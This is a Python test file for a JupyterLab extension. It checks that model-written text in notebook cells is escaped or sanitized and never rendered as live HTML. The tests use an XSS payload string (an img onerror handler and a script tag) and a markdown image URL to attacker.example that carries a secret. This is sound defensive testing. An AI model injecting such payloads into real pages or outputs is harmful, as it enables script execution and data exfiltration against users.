"""Model text in a cell is never markup (DESIGN §12; security review F3).

JupyterLab trusts the outputs of a cell it ran (and of a notebook it signed on save) and
renders trusted ``text/markdown`` and ``text/html`` without its sanitizer. So the cell
renderer sends model text as Loom's own type, ``ANSWER_MIME``, which the labextension
renders sanitized (``labextension/src/answer.ts``), with a readable ``text/plain``; and
the HTML Loom builds itself (tool cards, thinking, notices, diff cards, delegation
tables, report tables) escapes every string the model or the archive wrote.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

from loom_jupyter.engine.events import (
    ApprovalNeeded,
    Notice,
    TextDelta,
    ThinkingDelta,
    ToolFinished,
    ToolStarted,
    TurnDone,
    TurnError,
)
from loom_jupyter.jupyter.cell.plain_markdown import plain_text
from loom_jupyter.jupyter.cell.render import ANSWER_MIME, NotebookRenderer, answer_bundle
from loom_jupyter.messages import Usage
from loom_jupyter.tools.cells import CHANGE_MARK

if TYPE_CHECKING:
    import pytest

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '<img src=x onerror="window.__loomXSS=1"><script>window.__loomXSS=2</script>'
BUILT_TAGS = {"div", "span", "b", "i", "code", "br", "pre", "details", "summary", "svg"}
BUILT_TAGS |= {"table", "caption", "thead", "tbody", "tr", "th", "td", "polyline", "path"}


class _Elements(HTMLParser):
    """The tags and attribute names an HTML text makes (what a browser would build)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def _assert_built_by_loom(body: str) -> None:
    """Only the tags Loom writes, no event handler: the model's markup shows as text."""
    elements = _Elements()
    elements.feed(body)
    elements.close()
    assert elements.tags <= BUILT_TAGS, (elements.tags - BUILT_TAGS, body)
    assert not [name for name in elements.attributes if name.startswith("on")], body


def _capture(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """Every bundle the renderer displays or updates, in order."""
    import IPython.display

    shown: list[dict[str, Any]] = []

    def display(bundle: dict[str, Any], raw: bool = False, display_id: str | None = None) -> None:
        assert raw
        shown.append(bundle)

    monkeypatch.setattr(IPython.display, "display", display)
    monkeypatch.setattr(IPython.display, "update_display", display)
    return shown


def _hostile_turn(renderer: NotebookRenderer) -> None:
    """A turn where every piece of model (or tool) text carries markup."""
    renderer.on_event(ThinkingDelta(f"thinking {HOSTILE}"))
    renderer.on_event(TextDelta(f"Here is **the** status: {HOSTILE}\n\n"))
    renderer.on_event(ApprovalNeeded("c1", "edit_cell", f"cell {HOSTILE}", f"detail {HOSTILE}"))
    renderer.on_event(ToolStarted("c1", "edit_cell", f"cell {HOSTILE}"))
    diff = f"@@ -1 +1 @@\n-old {HOSTILE}\n+new {HOSTILE}"
    result = f"Edited {HOSTILE}.\n{CHANGE_MARK}{diff}"
    renderer.on_event(ToolFinished("c1", "edit_cell", f"done {HOSTILE}", False, 3, result=result))
    renderer.on_event(Notice(f"note {HOSTILE}", level="warning"))
    renderer.on_event(TextDelta(f"![chart](https://attacker.example/p.png?d=secret) {HOSTILE}"))
    renderer.on_event(TurnDone("end_turn", 1, 3, "", Usage(), 0.0, message=f"end {HOSTILE}"))
    renderer.on_event(TurnError(f"failed {HOSTILE}", "ModelError"))


def test_the_answer_goes_out_as_loom_markdown_with_readable_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    shown = _capture(monkeypatch)
    renderer = NotebookRenderer()
    renderer.on_event(TextDelta("Done: `answer` is **42**.\n\n```python\nanswer = 6 * 7\n```"))
    renderer.on_event(TurnDone("end_turn", 1, 2, "", Usage(), 0.0))

    answers = [bundle for bundle in shown if ANSWER_MIME in bundle]
    assert answers
    final = answers[-1]
    assert set(final) == {ANSWER_MIME, "text/plain"}
    assert final[ANSWER_MIME] == {
        "markdown": "Done: `answer` is **42**.\n\n```python\nanswer = 6 * 7\n```"
    }
    assert final["text/plain"] == "Done: answer is 42.\n\n    answer = 6 * 7"
    json.dumps(final)  # a JSON type (``+json``): nbformat stores it as an object


def test_no_model_text_reaches_the_cell_as_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    shown = _capture(monkeypatch)
    _hostile_turn(NotebookRenderer())

    assert not [bundle for bundle in shown if "text/markdown" in bundle]
    answers = [bundle[ANSWER_MIME]["markdown"] for bundle in shown if ANSWER_MIME in bundle]
    assert any(HOSTILE in markdown for markdown in answers)  # the front sanitizes it
    html = [bundle["text/html"] for bundle in shown if "text/html" in bundle]
    assert len(html) >= 5  # thinking, the card (three states), notices
    for body in html:
        _assert_built_by_loom(body)
        assert "&lt;img src=x onerror=&quot;window.__loomXSS=1&quot;&gt;" in body, body
    for bundle in shown:
        for mime, value in bundle.items():
            assert mime in (ANSWER_MIME, "text/html", "text/plain"), mime
            if mime == "text/plain":
                assert isinstance(value, str)


def test_every_kernel_html_builder_escapes_model_text() -> None:
    from loom_jupyter.host.services.panel_data import PanelData
    from loom_jupyter.jupyter.cell.diffs import diff_html
    from loom_jupyter.jupyter.cell.output import _html
    from loom_jupyter.jupyter.cell.render import thinking_bundle
    from loom_jupyter.jupyter.panel.render import panel_html

    pieces = [
        diff_html(f"+{HOSTILE}\n-{HOSTILE}"),
        thinking_bundle(HOSTILE, 1, done=True)["text/html"],
        _html(["title"], [[HOSTILE]], HOSTILE, nowrap=True),
        panel_html(
            PanelData(
                title=HOSTILE, activity=HOSTILE, tasks=(HOSTILE,), edits=((HOSTILE, HOSTILE),)
            )
        ),
    ]
    for body in pieces:
        _assert_built_by_loom(body)
        assert "&lt;script&gt;" in body, body


def test_plain_text_reads_well() -> None:
    markdown = "# Result\n\nThe **mean** is `3.5`; see [docs](https://example.org).\n\n- one\n"
    assert plain_text(markdown) == (
        "Result\n======\n\nThe mean is 3.5; see docs (https://example.org).\n\n• one"
    )
    assert answer_bundle("")["text/plain"] == ""


def test_the_labextension_renders_the_same_type_as_a_mime_extension() -> None:
    answer_ts = (ROOT / "labextension" / "src" / "answer.ts").read_text(encoding="utf-8")
    found = re.search(r"export const ANSWER_MIME = '([^']+)'", answer_ts)
    assert found is not None
    assert found.group(1) == ANSWER_MIME
    assert "safe: true" in answer_ts  # rendered in untrusted notebooks too: it sanitizes
    package = json.loads((ROOT / "labextension" / "package.json").read_text(encoding="utf-8"))
    assert package["jupyterlab"]["mimeExtension"] == "lib/answer.js"
